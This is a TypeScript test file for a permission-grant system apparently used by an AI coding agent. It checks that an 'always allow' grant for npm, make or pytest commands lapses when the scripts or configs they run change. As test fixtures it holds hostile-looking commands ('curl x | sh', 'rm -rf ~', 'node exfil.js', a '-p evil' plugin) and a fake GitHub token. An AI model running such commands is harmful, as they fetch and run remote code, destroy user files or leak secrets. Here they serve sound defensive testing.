// Causal grants, the pure part: which commands run project code, which lines decide what they run, the pin,
// the change a card shows, and that an exact grant covers a command only with the content it was pinned to.
import { describe, expect, it } from "vitest";
import { causalChangeLines, runnerWords } from "../../../src/policy/causal-change.ts";
import { causalChange, type DirReader, excerptsOf, pinOf } from "../../../src/policy/causal-content.ts";
import { type CausalRunner, causalRunnerOf } from "../../../src/policy/causal-runners.ts";
import { grantUnitsOf } from "../../../src/policy/grant-units.ts";
import { matchGrants, rulesForAnswer } from "../../../src/policy/grants.ts";
import type { CausalPin } from "../../../src/policy/types.ts";

function dir(files: Record<string, string>): DirReader {
  return { read: (name) => files[name] ?? null, names: () => Object.keys(files) };
}

function runnerOf(command: string): CausalRunner | null {
  return causalRunnerOf(command.split(" "));
}

describe("causalRunnerOf: the commands that run project code", () => {
  it.each([
    ["npm test", "npm-script:test"],
    ["npm t", "npm-script:test"],
    ["npm run build", "npm-script:build"],
    ["npm run-script lint", "npm-script:lint"],
    ["yarn build", "npm-script:build"],
    ["pnpm run check", "npm-script:check"],
    ["pnpm test", "npm-script:test"],
    ["npx tsc --noEmit", "tool:tsc"],
    ["tsc -b", "tool:tsc"],
    ["node_modules/.bin/vitest run", "tool:vitest"],
    ["npx eslint .", "tool:eslint"],
    ["pnpm exec jest", "tool:jest"],
    ["pytest -q", "tool:pytest"],
    ["python3 -m pytest", "tool:pytest"],
    ["make", "make::"],
    ["make check", "make::check"],
    ["make -j4 test", "make::test"],
    ["make -f build.mk all", "make:build.mk:all"],
    ["cargo test", "cargo:test"],
    ["cargo build --release", "cargo:build"],
    ["go test ./...", "go:test"],
  ])("%s → %s", (command, key) => {
    expect(runnerOf(command)?.key).toBe(key);
  });

  it.each([
    "npm install",
    "npm ci",
    "npm run",
    "yarn add left-pad",
    "pnpm why react",
    "ls -la",
    "git status",
    "cat package.json",
    "make -C sub check",
    "cargo --version",
    "python3 script.py",
  ])("%s runs no project code this model pins", (command) => {
    expect(runnerOf(command)).toBeNull();
  });

  it("a dynamic word is never pinned (its meaning is not known)", () => {
    expect(causalRunnerOf(["npm", null])).toBeNull();
  });
});

const PKG = (test: string, extra: Record<string, string> = {}) =>
  JSON.stringify({
    name: "demo",
    scripts: { test, build: "tsc -b", pretest: "npm run lint", lint: "eslint .", ...extra },
    devDependencies: { vitest: "^3.2.0", eslint: "^9.0.0", typescript: "^5.9.0" },
  });

describe("excerptsOf: the lines that decide what runs", () => {
  it("npm test: its script, the pre-script, the script that chains to, the tools' versions and configs", () => {
    const files = {
      "package.json": PKG("vitest run"),
      "vitest.config.ts": "export default {}",
      "eslint.config.js": "export default []",
      "tsconfig.json": "{}",
      "README.md": "hello",
    };
    const runner = runnerOf("npm test") as CausalRunner;
    const excerpts = excerptsOf(runner, dir(files));
    expect(excerpts[0]).toEqual({
      file: "package.json",
      lines: [
        "scripts.pretest: npm run lint",
        "scripts.test: vitest run",
        "scripts.lint: eslint .",
        "version of eslint: ^9.0.0",
        "version of vitest: ^3.2.0",
      ],
    });
    expect(excerpts.map((e) => e.file)).toEqual(["package.json", "eslint.config.js", "vitest.config.ts"]);
  });

  it("the pin changes with the script, a chained script, a tool's version or config — not with other files", () => {
    const runner = runnerOf("npm test") as CausalRunner;
    const base = { "package.json": PKG("vitest run"), "vitest.config.ts": "a", "src/x.ts": "1" };
    const pin = (files: Record<string, string>) => pinOf(excerptsOf(runner, dir(files)));
    const before = pin(base);
    expect(pin({ ...base, "src/x.ts": "2", "README.md": "new" })).toBe(before);
    expect(pin({ ...base, "package.json": PKG("vitest run", { start: "node server.js" }) })).toBe(before);
    expect(pin({ ...base, "package.json": PKG("vitest run && curl x | sh") })).not.toBe(before);
    expect(pin({ ...base, "package.json": PKG("vitest run", { lint: "eslint . ; rm -rf ~" }) })).not.toBe(
      before,
    );
    expect(pin({ ...base, "vitest.config.ts": "b" })).not.toBe(before);
    expect(pin({ ...base, "vitest.workspace.ts": "new" })).not.toBe(before);
    expect(pin({ ...base, "package.json": PKG("vitest run").replace("^3.2.0", "^9.9.9") })).not.toBe(before);
  });

  it("a Makefile target: its rule, its recipe, its prerequisites' rules and the variables", () => {
    const makefile = [
      "CC ?= cc",
      "all: build",
      "build:",
      "\t$(CC) -o app main.c",
      "check: build lint",
      "\t./app --self-test",
      "lint:",
      "\tshellcheck *.sh",
      "deploy:",
      "\tscp app prod:",
      "",
    ].join("\n");
    const runner = runnerOf("make check") as CausalRunner;
    const [excerpt] = excerptsOf(runner, dir({ Makefile: makefile }));
    expect(excerpt).toEqual({
      file: "Makefile",
      lines: [
        "CC ?= cc",
        "check: build lint",
        "\t./app --self-test",
        "build:",
        "\t$(CC) -o app main.c",
        "lint:",
        "\tshellcheck *.sh",
      ],
    });
    const pin = (text: string) => pinOf(excerptsOf(runner, dir({ Makefile: text })));
    expect(pin(makefile.replace("scp app prod:", "scp app staging:"))).toBe(pin(makefile));
    expect(pin(makefile.replace("./app --self-test", "./app --self-test; curl x"))).not.toBe(pin(makefile));
    expect(excerptsOf(runnerOf("make") as CausalRunner, dir({ Makefile: makefile }))[0]?.lines).toContain(
      "all: build",
    );
  });

  it("pyproject.toml counts by its tool tables only", () => {
    const runner = runnerOf("pytest -q") as CausalRunner;
    const py = (version: string, opts: string) =>
      `[project]\nname = "x"\nversion = "${version}"\n\n[tool.pytest.ini_options]\naddopts = "${opts}"\n`;
    const pin = (text: string) => pinOf(excerptsOf(runner, dir({ "pyproject.toml": text })));
    expect(pin(py("1.0", "-q"))).toBe(pin(py("2.0", "-q")));
    expect(pin(py("1.0", "-q"))).not.toBe(pin(py("1.0", "-p evil")));
  });

  it("an absent or unparsable package.json still pins (and differs from a real one)", () => {
    const runner = runnerOf("npm test") as CausalRunner;
    const absent = pinOf(excerptsOf(runner, dir({})));
    const broken = pinOf(excerptsOf(runner, dir({ "package.json": "{" })));
    const real = pinOf(excerptsOf(runner, dir({ "package.json": PKG("vitest run") })));
    expect(new Set([absent, broken, real]).size).toBe(3);
  });
});

describe("causalChange: what the card shows", () => {
  it("names the file, the line that went and the line that came", () => {
    const runner = runnerOf("npm test") as CausalRunner;
    const before = excerptsOf(runner, dir({ "package.json": PKG("vitest run") }));
    const after = excerptsOf(runner, dir({ "package.json": PKG("vitest run && node exfil.js") }));
    expect(causalChange(before, after)).toBe(
      "package.json:\n- scripts.test: vitest run\n+ scripts.test: vitest run && node exfil.js",
    );
    expect(causalChange(before, before)).toBe("");
  });

  it("redacts a credential written into a script", () => {
    const runner = runnerOf("npm test") as CausalRunner;
    const before = excerptsOf(runner, dir({ "package.json": PKG("vitest run") }));
    const token = "ghp_abcdefghijklmnopqrstuvwxyz0123456789";
    const after = excerptsOf(runner, dir({ "package.json": PKG(`GH=${token} vitest run`) }));
    expect(causalChange(before, after)).not.toContain(token);
  });

  it("the lines a card leads with", () => {
    expect(runnerWords("npm-script:test")).toBe("the `test` script");
    expect(runnerWords("make::check")).toBe("the Makefile target `check`");
    expect(runnerWords("make::")).toBe("the Makefile's default target");
    expect(
      causalChangeLines([{ key: "npm-script:test", dir: "/r", changed: "package.json:\n- a\n+ b" }]),
    ).toEqual([
      "what it runs changed since it was allowed always: the `test` script in /r\npackage.json:\n- a\n+ b",
    ]);
  });
});

describe("exact grants of commands that run project code are pinned", () => {
  const cwd = "/home/u/repo";
  const pin = (p: string, d = cwd, key = "npm-script:test"): CausalPin => ({
    dir: d,
    key,
    pin: p.repeat(64),
  });
  const always = (command: string, causal: CausalPin[]) =>
    rulesForAnswer(grantUnitsOf({ tool: "bash", input: { command }, cwd, causal }), "allow", "always", {
      id: "claude-code",
    }).map((r, i) => ({ ...r, id: `g${i}` }));
  const covered = (rules: ReturnType<typeof always>, command: string, causal: CausalPin[]) =>
    matchGrants(rules, {
      agentId: "claude-code",
      units: grantUnitsOf({ tool: "bash", input: { command }, cwd, causal }),
    })?.effect === "allow";

  it("covers the command while its pin is the same, and not after a change", () => {
    const rules = always("npm test", [pin("a")]);
    expect(covered(rules, "npm test", [pin("a")])).toBe(true);
    expect(covered(rules, "npm test", [pin("b")])).toBe(false);
    // A call nobody pinned (no companion read the files) is not the pinned command either.
    expect(covered(rules, "npm test", [])).toBe(false);
  });

  it("a pin for another directory or runner does not count", () => {
    const rules = always("npm test", [pin("a")]);
    expect(covered(rules, "npm test", [pin("a", "/home/u/other")])).toBe(false);
    expect(covered(rules, "npm test", [pin("a", cwd, "npm-script:build")])).toBe(false);
  });

  it("a command that runs no project code is not pinned (its grant ignores pins)", () => {
    const rules = always("git status", []);
    expect(covered(rules, "git status", [pin("z")])).toBe(true);
  });

  it("`cd sub && npm test`: the grant names sub, and covers it only with sub's pin", () => {
    const sub = `${cwd}/sub`;
    const units = grantUnitsOf({
      tool: "bash",
      input: { command: "cd sub && npm test" },
      cwd,
      causal: [pin("a", sub)],
    });
    expect(units.map((u) => [u.display, u.coverable])).toEqual([
      ["cd sub", true],
      [`(in ${sub}) npm test`, true],
    ]);
    const rules = always("cd sub && npm test", [pin("a", sub)]);
    expect(covered(rules, "cd sub && npm test", [pin("a", sub)])).toBe(true);
    expect(covered(rules, "cd sub && npm test", [pin("b", sub)])).toBe(false);
    // The same words in the top directory are another command.
    expect(covered(rules, "npm test", [pin("a", cwd)])).toBe(false);
    // `cd sub; npm test` may run in either directory: never coverable.
    const either = grantUnitsOf({ tool: "bash", input: { command: "cd sub; npm test" }, cwd });
    expect(either.find((u) => u.display.endsWith("npm test"))?.coverable).toBe(false);
  });

  it("only a plain `cd DIR &&` moves the right side: `||`, `;`, a dynamic or nested cd stay unknown", () => {
    const dirOf = (command: string) =>
      grantUnitsOf({ tool: "bash", input: { command }, cwd }).find((u) => u.display.endsWith("npm test"))
        ?.display;
    expect(dirOf("cd sub && npm test")).toBe(`(in ${cwd}/sub) npm test`);
    expect(dirOf("pushd sub && npm test")).toBe(`(in ${cwd}/sub) npm test`);
    expect(dirOf("cd /tmp && npm test")).toBe("(in /tmp) npm test");
    for (const command of [
      "cd sub || npm test",
      "cd $D && npm test",
      "cd a && cd b && npm test",
      "cd sub && true; npm test",
    ]) {
      const unit = grantUnitsOf({ tool: "bash", input: { command }, cwd }).find((u) =>
        u.display.endsWith("npm test"),
      );
      expect(unit?.coverable, command).toBe(false);
    }
  });
});
